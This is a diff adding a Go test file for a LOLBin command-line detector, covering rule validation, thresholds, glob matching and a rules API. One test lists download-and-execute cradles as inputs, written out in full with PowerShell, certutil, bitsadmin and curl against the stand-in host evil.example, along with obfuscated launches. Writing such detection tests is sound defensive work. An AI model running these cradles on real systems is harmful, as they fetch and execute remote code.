@@ -0,0 +1,289 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// writeRulesFile writes a rules file to a temporary directory and returns
+// its path
+func writeRulesFile(t *testing.T, file RulesFile) string {
+	t.Helper()
+	data, err := json.Marshal(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "rules.json")
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestValidateLOLBin(t *testing.T) {
+	tests := []struct {
+		name   string
+		lolbin LOLBin
+		err    string
+	}{
+		{"suspicious args", LOLBin{Name: "tool.exe", SuspiciousArgs: []string{"-run"}}, ""},
+		{"no criteria", LOLBin{Name: "hh.exe", Tags: []string{"execution"}}, ""},
+		{"missing name", LOLBin{SuspiciousArgs: []string{"-run"}}, "missing name"},
+		{"empty argument", LOLBin{Name: "tool.exe", SuspiciousArgs: []string{" "}}, "empty suspicious argument"},
+		{"empty group", LOLBin{Name: "tool.exe", ArgGroups: map[string][]string{"download": nil}}, "argument group download is empty"},
+		{"threshold above arguments", LOLBin{Name: "tool.exe", SuspiciousArgs: []string{"-a"}, MatchThreshold: 2}, "match_threshold"},
+		{"bad technique", LOLBin{Name: "tool.exe", MITRE: []string{"1105"}}, "invalid ATT&CK technique"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validateLOLBin(tt.lolbin)
+			if tt.err == "" {
+				if err != nil {
+					t.Fatalf("validateLOLBin() = %v, want nil", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Fatalf("validateLOLBin() = %v, want an error containing %q", err, tt.err)
+			}
+		})
+	}
+}
+
+func TestLoadRuleSetAcceptsBuiltinShapes(t *testing.T) {
+	// Every built-in copied into a rules file loads, criteria or not
+	file := RulesFile{}
+	for _, lolbin := range builtinLOLBins {
+		file.LOLBins = append(file.LOLBins, lolbin)
+	}
+	rules, err := loadRuleSet(writeRulesFile(t, file))
+	if err != nil {
+		t.Fatalf("loadRuleSet() = %v", err)
+	}
+	if _, ok := rules.LOLBins["hh.exe"]; !ok {
+		t.Fatal("hh.exe missing from the loaded rules")
+	}
+}
+
+func TestMatchThreshold(t *testing.T) {
+	tests := []struct {
+		threshold int
+		cmdLine   string
+		flagged   bool
+		reason    string
+	}{
+		{0, "tool.exe -a", true, "(1 suspicious argument)"},
+		{1, "tool.exe -a", true, "(1 suspicious argument)"},
+		{1, "tool.exe -a -b", true, "(2 suspicious arguments)"},
+		{2, "tool.exe -a", false, ""},
+		// The same argument twice is one distinct match
+		{2, "tool.exe -a -a", false, ""},
+		{2, "tool.exe -a -c", true, "(2 suspicious arguments)"},
+		{3, "tool.exe -a -c", false, ""},
+		{3, "tool.exe -c -b -a", true, "(3 suspicious arguments)"},
+		{3, "tool.exe -d", false, ""},
+	}
+	for _, tt := range tests {
+		t.Run(fmt.Sprintf("%d %s", tt.threshold, tt.cmdLine), func(t *testing.T) {
+			rules, err := loadRuleSet(writeRulesFile(t, RulesFile{LOLBins: []LOLBin{{
+				Name:           "tool.exe",
+				SuspiciousArgs: []string{"-a", "-b"},
+				ArgGroups:      map[string][]string{"execution": {"-c"}},
+				MatchThreshold: tt.threshold,
+			}}}))
+			if err != nil {
+				t.Fatal(err)
+			}
+			event := ProcessEvent{ExecutablePath: `C:\Tools	ool.exe`, CommandLine: tt.cmdLine}
+			applyLOLBinRules(&event, rules, "tool.exe", rules.matching("tool.exe"))
+			if event.Suspicious != tt.flagged || !strings.HasSuffix(event.Reason, tt.reason) {
+				t.Errorf("suspicious %v, reason %q; want %v ending %q", event.Suspicious, event.Reason, tt.flagged, tt.reason)
+			}
+		})
+	}
+}
+
+func TestCradleCategories(t *testing.T) {
+	powershell := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	cmd := `C:\Windows\System32\cmd.exe`
+	tests := []struct {
+		executable string
+		cmdLine    string
+		categories []string
+	}{
+		{powershell, `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"`, []string{"download", "execution"}},
+		{powershell, `powershell -c "iwr http://evil.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"`, []string{"download", "execution"}},
+		{powershell, `powershell -c "curl http://evil.example/a -o a.exe"`, []string{"download"}},
+		{powershell, `powershell.exe Start-BitsTransfer -Source http://evil.example/a.exe -Destination C:\Users\Public\a.exe`, []string{"download"}},
+		{powershell, `powershell -c "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','http://evil.example/a',$false);$h.send();iex $h.responseText"`, []string{"download", "execution"}},
+		{powershell, `powershell.exe -NoP -W Hidden -Enc SQBFAFgA`, []string{"obfuscation"}},
+		{cmd, `cmd.exe /c powershell -c "iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')"`, []string{"download", "execution"}},
+		{cmd, `cmd.exe /c bitsadmin /transfer job http://evil.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe`, []string{"download", "execution"}},
+		{cmd, `cmd.exe /c certutil -urlcache -split -f http://evil.example/a.exe a.exe && a.exe`, []string{"download", "execution"}},
+		{cmd, `cmd.exe /c curl.exe -o %TEMP%\a.exe http://evil.example/a.exe`, []string{"download", "execution"}},
+		{cmd, `cmd.exe /V:ON /c "set x=po^wer^shell&& call !x!"`, []string{"execution", "obfuscation"}},
+		// Administration that comes close without a cradle
+		{powershell, `powershell.exe -NoLogo -File C:\ProgramData\Scripts\inventory.ps1`, nil},
+		{powershell, `powershell.exe Get-Content C:\Logs\curlrequests.txt -Tail 20`, nil},
+		{cmd, `cmd.exe /k dir C:\Users`, nil},
+		{cmd, `cmd.exe /d /s "C:\Program Files\nodejs\npm.cmd" install`, nil},
+	}
+	for _, tt := range tests {
+		event := evaluate(tt.executable, tt.cmdLine)
+		var categories []string
+		for _, indicator := range event.Indicators {
+			if indicator.Type == "arg" && !slices.Contains(categories, indicator.Category) {
+				categories = append(categories, indicator.Category)
+			}
+		}
+		slices.Sort(categories)
+		if !slices.Equal(categories, tt.categories) || event.Suspicious != (len(tt.categories) > 0) {
+			t.Errorf("%s: categories %q, suspicious %v; want %q", tt.cmdLine, categories, event.Suspicious, tt.categories)
+		}
+		for _, category := range tt.categories {
+			if !slices.Contains(event.Tags, category) {
+				t.Errorf("%s: tags %q, want %s", tt.cmdLine, event.Tags, category)
+			}
+		}
+	}
+}
+
+// renderEffectiveRules decodes GET /api/rules for the active rules
+func renderEffectiveRules(t *testing.T) effectiveRules {
+	t.Helper()
+	rec := httptest.NewRecorder()
+	getEffectiveRules(rec, httptest.NewRequest(http.MethodGet, "/api/rules", nil))
+	var effective effectiveRules
+	if err := json.Unmarshal(rec.Body.Bytes(), &effective); err != nil {
+		t.Fatalf("decoding GET /api/rules: %v", err)
+	}
+	return effective
+}
+
+// activateRulesFile loads a rules file and makes it active for the rest of
+// the test
+func activateRulesFile(t *testing.T, file RulesFile) {
+	t.Helper()
+	rules, err := loadRuleSet(writeRulesFile(t, file))
+	if err != nil {
+		t.Fatalf("loadRuleSet() = %v", err)
+	}
+	saved := currentRules()
+	activeRules.Store(rules)
+	t.Cleanup(func() { activeRules.Store(saved) })
+}
+
+func TestEffectiveRulesRoundTrip(t *testing.T) {
+	activateRulesFile(t, RulesFile{
+		LOLBins: []LOLBin{
+			{Name: "tool.exe", SuspiciousArgs: []string{"-run"}, ArgGroups: map[string][]string{"download": {"-get"}}, MatchThreshold: 2},
+			{Name: "certutil.exe", SuspiciousArgs: []string{"-urlcache"}, ExcludePatterns: []string{"-verifyctl"}, Severity: SeverityCritical},
+			{Name: "powershell-family", Image: "powershell*.exe", Priority: 5, Condition: &Condition{All: []Condition{{Arg: "-nop"}, {Arg: "-enc"}}}},
+		},
+		Ignore:          IgnoreList{Action: "skip", Binaries: []string{"MsMpEng.exe", `C:\Tools\*\scan.exe`}},
+		Watchlist:       Watchlist{Binaries: []string{"nltest.exe"}, Severity: SeverityMedium, Tags: []string{"discovery"}},
+		KnownProcesses:  []KnownProcess{{Name: "agent.exe", Directories: []string{`%ProgramFiles%\Vendor`}}},
+		Rundll32Exports: []Rundll32Export{{DLL: "vendor.dll", Exports: []string{"Start"}}},
+	})
+	first := renderEffectiveRules(t)
+	if first.LOLBins["tool.exe"].MatchThreshold != 2 || first.KnownProcesses["agent.exe"] == nil {
+		t.Fatalf("the rules file is missing from GET /api/rules: %+v", first.LOLBins["tool.exe"])
+	}
+
+	// Everything the endpoint shows goes back into a rules file
+	file := RulesFile{Ignore: first.Ignore, Watchlist: first.Watchlist}
+	for _, name := range first.EvaluationOrder {
+		file.LOLBins = append(file.LOLBins, first.LOLBins[name])
+	}
+	for name, dirs := range first.KnownProcesses {
+		file.KnownProcesses = append(file.KnownProcesses, KnownProcess{Name: name, Directories: dirs})
+	}
+	for dll, exports := range first.Rundll32Exports {
+		file.Rundll32Exports = append(file.Rundll32Exports, Rundll32Export{DLL: dll, Exports: exports})
+	}
+	activateRulesFile(t, file)
+	second := renderEffectiveRules(t)
+
+	if second.Version.Hash == "" || second.Version.Hash == first.Version.Hash {
+		t.Errorf("version hashes %q then %q, want a new one", first.Version.Hash, second.Version.Hash)
+	}
+	first.Version, second.Version = RulesVersion{}, RulesVersion{}
+	if !reflect.DeepEqual(first, second) {
+		firstJSON, _ := json.MarshalIndent(first, "", "  ")
+		secondJSON, _ := json.MarshalIndent(second, "", "  ")
+		t.Errorf("reloading GET /api/rules changed the rules:\n%s\nreloaded:\n%s", firstJSON, secondJSON)
+	}
+}
+
+// ruleNames lists the names of rule entries in order
+func ruleNames(entries []*ruleEntry) []string {
+	names := make([]string, 0, len(entries))
+	for _, entry := range entries {
+		names = append(names, entry.name)
+	}
+	return names
+}
+
+func TestRuleSetMatchingGlobs(t *testing.T) {
+	rules, err := loadRuleSet(writeRulesFile(t, RulesFile{LOLBins: []LOLBin{
+		{Name: "powershell-family", Image: "powershell*.exe", SuspiciousArgs: []string{"-nop"}},
+		{Name: "any-temp-tool", Image: "*.exe", Priority: -1, Condition: &Condition{Path: `C:\Users\*\AppData\Local\Temp\**`}},
+		{Name: "pwsh-first", Image: "pwsh?.exe", Priority: 10, SuspiciousArgs: []string{"-enc"}},
+	}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		execName string
+		rules    []string
+	}{
+		// An exact rule precedes a glob of the same priority
+		{"powershell.exe", []string{"powershell.exe", "powershell-family", "any-temp-tool"}},
+		{"powershell_ise.exe", []string{"powershell-family", "any-temp-tool"}},
+		// Priority decides before exactness
+		{"pwsh7.exe", []string{"pwsh-first", "any-temp-tool"}},
+		{"certutil.exe", []string{"certutil.exe", "any-temp-tool"}},
+		{"notepad.txt", nil},
+	}
+	for _, tt := range tests {
+		if got := ruleNames(rules.matching(tt.execName)); !slices.Equal(got, tt.rules) {
+			t.Errorf("matching(%s) = %q, want %q", tt.execName, got, tt.rules)
+		}
+	}
+}
+
+func BenchmarkRuleSetMatching(b *testing.B) {
+	file := RulesFile{}
+	for _, image := range []string{"powershell*.exe", "*ps?.exe", "c*util.exe", "ms[a-z]*.exe", "tool-*.exe"} {
+		file.LOLBins = append(file.LOLBins, LOLBin{Name: "glob " + image, Image: image, SuspiciousArgs: []string{"-x"}})
+	}
+	data, err := json.Marshal(file)
+	if err != nil {
+		b.Fatal(err)
+	}
+	path := filepath.Join(b.TempDir(), "rules.json")
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		b.Fatal(err)
+	}
+	rules, err := loadRuleSet(path)
+	if err != nil {
+		b.Fatal(err)
+	}
+
+	for _, execName := range []string{"certutil.exe", "powershell_ise.exe", "notepad.exe"} {
+		b.Run(execName, func(b *testing.B) {
+			b.ReportAllocs()
+			for b.Loop() {
+				rules.matching(execName)
+			}
+		})
+	}
+}